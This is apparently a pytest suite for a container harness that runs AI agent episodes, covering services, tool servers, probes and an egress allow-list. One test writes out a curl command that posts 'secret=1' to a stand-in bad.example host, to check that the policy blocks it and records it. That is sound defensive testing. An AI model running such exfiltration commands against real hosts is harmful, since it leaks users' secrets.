"""The container world as an episode uses it, with a project of its own: a service that asks, and a tool server."""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from pathlib import Path

import pytest

from hiyari.adapters.mcp import ToolServer
from hiyari.adapters.pod import ContainerWorld, Pods, connect
from hiyari.agent import Call
from hiyari.catalog import Environment
from hiyari.errors import ContentError, EngineError
from hiyari.events import (
    CallReturned,
    Egress,
    FileChanged,
    PodStarted,
    RobotCommanded,
    ServiceRequested,
    ToolServerStarted,
    plain,
)

from .conftest import ROOT

pytestmark = pytest.mark.docker
DOCKERFILE = """ARG BASE_IMAGE
FROM ${BASE_IMAGE}
COPY server.py /opt/hiyari/server.py
USER 10100:10100
CMD ["python3", "/opt/hiyari/server.py"]
"""
SERVICE = """
import os, pathlib, socketserver, threading
from hiyari_control import Control, own_address

control = Control()
state = pathlib.Path("/state/greeting")

def seed(message):
    if message["data"].get("broken"):
        raise ValueError("the data is broken")
    if "names" in message["data"]:
        message["data"]["first"]
    state.write_text(message["data"].get("greeting", "") + " at " + message["now"])

def probe(message):
    if "greeting" not in message["query"]:
        raise LookupError("ask for the greeting")
    return state.read_text()

class Handler(socketserver.StreamRequestHandler):
    def handle(self):
        said = self.rfile.readline().decode().strip()
        control.request("guest", "say", {"said": said, "from": self.client_address[0]})
        if said == "die":
            os._exit(3)
        try:
            answer = control.ask({"said": said})
        except RuntimeError as error:
            answer = f"error: {error}"
        self.wfile.write(f"{answer}\\n".encode())

control.op("seed", seed)
control.op("probe", probe)
server = socketserver.ThreadingTCPServer((own_address(), 7), Handler)
threading.Thread(target=server.serve_forever, daemon=True).start()
control.serve()
"""
TOOL = """
from mcp_stdio import Tool, serve

def build(parameters, language):
    text = {"en": "Greet.", "ja": "挨拶する。"}
    return [Tool("own_greet", text, {}, lambda call: "greetings, " + parameters["name"])]

def main():
    serve("own", build)
"""
ENVIRONMENT = Environment.model_validate(
    {
        "name": "talking",
        "title": {"ja": "会話", "en": "Talking"},
        "domain": "midori.example",
        "now": "2026-04-06T09:00:00+09:00",
        "services": [{"name": "echo", "host": ["echo.midori.example", "echo2.midori.example"]}],
        "tools": [{"name": "shell"}, {"name": "own"}],
        "agent": {"memory_mb": 256, "disk_mb": 16},
    }
)


@pytest.fixture(scope="module")
def talking(engine, tmp_path_factory):
    """Pods of a project that has a service of its own."""
    project = tmp_path_factory.mktemp("project")
    folder = project / "environments/services/echo"
    folder.mkdir(parents=True)
    (folder / "Dockerfile").write_text(DOCKERFILE)
    (folder / "server.py").write_text(SERVICE)
    (folder / "service.yaml").write_text("name: echo\nstate: {path: /state, megabytes: 4}\nports: [7]\n")
    (project / "tools/own").mkdir(parents=True)
    (project / "tools/own/server.py").write_text(TOOL)
    (project / "tools/own/tool.yaml").write_text("name: own\ntitle: {ja: 自作, en: Own}\n")
    with Pods(connect(), [ROOT, project], run="test-talking") as pods:
        yield pods
    made = [*engine.client.images.list("hiyari/services/echo"), *engine.client.images.list("hiyari/agent-tools")]
    for image in made:
        engine.client.images.remove(image.tags[0], force=True)


@pytest.fixture
def make(talking) -> Callable[..., ContainerWorld]:
    """Make worlds; they are closed after the test."""
    made = []

    def build(seed=None, **more):
        seed = {"echo": {"greeting": "hello"}} if seed is None else seed
        servers = more.pop("servers", [ToolServer(name="shell")])
        world = ContainerWorld(talking, ENVIRONMENT, episode="test", servers=servers, seed=seed, **more)
        made.append(world)
        return world

    yield build
    for world in made:
        world.close()


def shell(world, command):
    """The events of a shell command."""
    return list(world.step(Call(id="c1", tool="shell_run", arguments={"command": command})))


def say(text, host="echo.midori.example"):
    """A command that says a line to the service."""
    return f"exec 3<>/dev/tcp/{host}/7; echo {text} >&3; cat <&3"


def test_an_episode_of_services_asks_and_answers(make):
    """A reset seeds, a call reaches the service by name, its question is answered, a probe sees its state."""

    def answer(request):
        yield RobotCommanded(robot="r1", command=request["said"], arguments={}, accepted=True)
        return f"you said {request['said']}"

    world = make(bindings={"echo": answer})
    opening = list(world.reset(1))
    assert isinstance(opening[0], PodStarted) and set(opening[0].images) == {"world", "echo", "agent"}
    assert [event.server for event in opening if isinstance(event, ToolServerStarted)] == ["shell"]
    assert [tool.name for tool in world.tools()] == ["shell_run"]
    events = shell(world, say("good-morning"))
    kinds = [type(event) for event in events]
    assert kinds.index(ServiceRequested) < kinds.index(RobotCommanded) < kinds.index(CallReturned)
    asked = next(event for event in events if isinstance(event, ServiceRequested))
    assert (asked.service, asked.account, asked.operation) == ("echo", "guest", "say")
    assert asked.detail["said"] == "good-morning"
    assert plain(events[-1].text) == "exit code: 0\nyou said good-morning\n"
    assert not any(isinstance(event, Egress) for event in events)
    assert plain(shell(world, say("again", "echo2.midori.example"))[-1].text).endswith("you said again\n")
    assert world.time() == 2.0
    assert list(world.wait(1.5)) == [] and world.time() == 3.5
    list(world.finish())
    greeting = "hello at 2026-04-06T09:00:00+09:00"
    assert world.probe({"service": "echo", "greeting": True}) == greeting
    assert world.probe({"service": "echo", "query": {"greeting": True}}) == greeting


def test_a_tool_server_of_the_project_runs_beside_the_built_in_ones(make):
    """Its folder is added to the agent image, its parameters are handed over, its texts are in the language."""
    own = ToolServer(name="own", parameters={"name": "Hanako"}, seconds=3.0)
    world = make(servers=[ToolServer(name="shell"), own], language="ja")
    list(world.reset(1))
    tools = {tool.name: tool for tool in world.tools()}
    assert set(tools) == {"shell_run", "own_greet"} and tools["own_greet"].description == "挨拶する。"
    last = list(world.step(Call(id="c1", tool="own_greet", arguments={})))[-1]
    assert (last.status, last.text) == ("ok", "greetings, Hanako")
    assert world.time() == 3.0


def test_a_question_that_nobody_answers_is_refused_not_left_waiting(make):
    """A service without a binding is told so, and the call goes on."""
    world = make()
    list(world.reset(1))
    said = plain(shell(world, say("hello"))[-1].text)
    assert "error: nobody answers for echo in this episode" in said


def test_probes_that_cannot_be_answered_are_lookup_errors(make):
    """Unknown services, refused queries and unknown probes say why."""
    world = make()
    list(world.reset(1))
    with pytest.raises(LookupError, match="no service 'eco'; known: echo"):
        world.probe({"service": "eco"})
    with pytest.raises(LookupError, match="ask for the greeting"):
        world.probe({"service": "echo", "weather": True})
    with pytest.raises(LookupError, match="one of service, files, file, site; not memory"):
        world.probe({"memory": True})


def test_data_that_a_service_refuses_are_content_to_be_mended(make):
    """The error names the service, what it said, and the file and field that the data came from."""
    places = {"echo": (Path("scenarios/platform/PLT-9.yaml"), "world.seed.echo")}
    where = re.escape("scenarios/platform/PLT-9.yaml: world.seed.echo: service echo refused its data: ")
    for data, words in (({"broken": True}, "the data is broken"), ({"names": []}, "the field 'first' is missing")):
        with pytest.raises(ContentError, match=where + words):
            list(make({"echo": data}, places=places).reset(1))


def test_a_service_that_dies_makes_the_episode_invalid(make):
    """It is an EngineError that names the service."""
    world = make()
    list(world.reset(1))
    with pytest.raises(EngineError, match="container echo is gone"):
        shell(world, say("die") + "; sleep 5")


def test_two_episodes_of_one_seed_are_equal(make):
    """Addresses, pages, certificates' names and files come out the same; only volatile fields may differ."""
    from hiyari.recording.compare import comparable

    def episode():
        world = make()
        events = [*world.reset(7)]
        events += shell(
            world, "curl -s http://unknown.example/a; curl -s https://unknown.example/b -d x=1; date > /dev/null"
        )
        events += shell(world, "echo text > file; mkdir d; getent hosts other.example")
        events += world.finish()
        return [comparable(event) for event in events]

    assert json.dumps(episode(), sort_keys=True, default=str) == json.dumps(episode(), sort_keys=True, default=str)


def test_a_policy_blocks_what_leaves_and_still_records_it(make):
    """With an allow-list the destination receives nothing, the recording everything."""
    world = make(policy={"egress_allow": ["*.midori.example", "good.example"]})
    list(world.reset(1))
    events = shell(world, "curl -s -m 5 -d secret=1 http://bad.example/; curl -s -o /dev/null http://good.example/")
    sent = {event.host: event.blocked for event in events if isinstance(event, Egress)}
    assert sent == {"bad.example": True, "good.example": False}
    bad = next(event for event in events if isinstance(event, Egress) and event.blocked)
    assert b"secret=1" in bad.payload.read()


def test_an_abandoned_call_does_not_confuse_the_next(make):
    """The episode may stop a call in the middle; the next call's result is its own."""
    world = make()
    list(world.reset(1))
    step = world.step(
        Call(id="c1", tool="shell_run", arguments={"command": "curl -s http://a.example; sleep 1; echo old"})
    )
    next(step)
    step.close()
    assert plain(shell(world, "sleep 2; echo new")[-1].text) == "exit code: 0\nnew\n"


def test_a_second_reset_is_a_new_pod(make):
    """Nothing of the first episode is there in the second."""
    world = make()
    list(world.reset(1))
    shell(world, "echo x > left; sleep 100 &")
    list(world.reset(1))
    assert world.time() == 0.0
    events = shell(world, "ls -A; pgrep sleep")
    assert plain(events[-1].text) == "exit code: 1\n"
    assert not any(isinstance(event, FileChanged) for event in events)


def test_what_is_left_running_ends_with_the_episode(make):
    """Background work after a call is told by later events until finish, and then there is none."""
    world = make()
    list(world.reset(1))
    shell(
        world,
        "(for i in $(seq 100); do curl -s http://late.example/$i > /dev/null; sleep 0.2; done) > /dev/null 2>&1 &",
    )
    late = [event for event in world.finish() if isinstance(event, Egress)]
    again = [event for event in world.finish() if isinstance(event, Egress)]
    assert len(late) <= 100 and again == []


def test_a_closed_world_says_so(make):
    """Using a world that was not reset, or is closed, is an EngineError; closing twice is fine."""
    world = make()
    assert list(world.tools()) == []
    with pytest.raises(EngineError, match="no pod"):
        world.probe({"files": "*"})
    list(world.reset(1))
    world.close()
    world.close()
    with pytest.raises(EngineError, match="no tool servers"):
        shell(world, "true")
    assert list(world.finish()) == []
